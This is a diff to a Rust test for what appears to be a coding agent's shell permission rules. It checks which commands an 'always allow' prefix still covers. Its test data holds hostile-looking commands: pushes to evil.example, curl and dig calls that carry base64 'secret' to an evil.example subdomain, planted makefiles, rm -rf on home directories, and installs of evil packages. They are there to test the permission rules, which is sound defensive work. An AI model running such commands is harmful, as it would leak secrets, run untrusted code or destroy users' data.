@@ -27,7 +27,11 @@ fn always_allow_on_shell_is_per_command_prefix() {
         ("ls", "ls /etc", true),
         ("ls", "lsof", true),
         // Options, paths and URLs added to an allowed prefix ask.
-        ("git push origin", "git push origin main", false),
+        ("git log", "git log main", false),
+        ("git log", "git log /etc", true),
+        // Only the listed programs and subcommands make prefixes.
+        ("git push origin", "git push origin main", true),
+        ("git push origin main", "git push origin +main", true),
         (
             "git push origin",
             "git push https://evil.example/x.git",
@@ -43,7 +47,8 @@ fn always_allow_on_shell_is_per_command_prefix() {
         ("rm -rf build", "rm -rf dist", true),
         ("rm -rf build", "rm -rf /home/u", true),
         ("rm -rf build", "rm -rf ..", true),
-        ("make", "make test", false),
+        ("make", "make test", true),
+        ("make", "make", false),
         ("make", "make -f /tmp/planted.mk", true),
         ("make", "make SHELL=/bin/evil", true),
         // With operators, only the exact command.
@@ -110,7 +115,8 @@ fn always_allow_on_shell_is_per_command_prefix() {
             true,
         ),
         ("docker compose ps", "docker compose run web sh", true),
-        ("npm test", "npm test config", true),
+        ("npm test", "npm test config", false),
+        ("npm test", "npm test +x", true),
         ("npm rum build", "npm rum evil", true),
         ("npm install left-pad", "npm install left-pad", false),
         ("npm install left-pad", "npm install evilpkg", true),
@@ -142,9 +148,36 @@ fn always_allow_on_shell_is_per_command_prefix() {
         ("pip download x", "pip download evil", true),
         // Still covered: a project's own commands with plain arguments.
         ("git add a.rs", "git add b.rs", false),
-        ("cargo test", "cargo test config", true),
+        ("cargo test", "cargo test config", false),
+        // A network client's extra word is another address.
+        (
+            "curl https://api.example.com",
+            "curl https://api.example.com c2VjcmV0.evil.example",
+            true,
+        ),
+        (
+            "dig example.com",
+            "dig example.com c2VjcmV0.evil.example",
+            true,
+        ),
+        // A one-word package manager covers nothing more.
+        ("npm", "npm it evilpkg", true),
+        ("yarn", "yarn publish", true),
+        // Installs and runners outside the list, what a runner runs.
+        ("pipx install black", "pipx install evilpkg", true),
+        ("bundle add rails", "bundle add evilgem", true),
+        ("uv run pip list", "uv run pip wheel evilpkg", true),
+        ("direnv exec . cargo test", "direnv exec . curl x", true),
+        ("git checkout main", "git checkout .", true),
+        ("gh pr view 12", "gh pr close 12", true),
+        ("rm a.txt", "rm a.txt Cargo.toml", true),
+        ("killall node", "killall node tiller", true),
+        // Still covered.
+        ("echo one", "echo one two", false),
+        ("pytest tests", "pytest tests unit", false),
+        ("git status", "git status", false),
         ("cargo test", "cargo test parser", false),
-        ("make test", "make test lint", false),
+        ("make test", "make test deploy", true),
     ];
     for (allowed, later, asks) in cases {
         let mut perms = Permissions::new(PermissionMode::Ask);
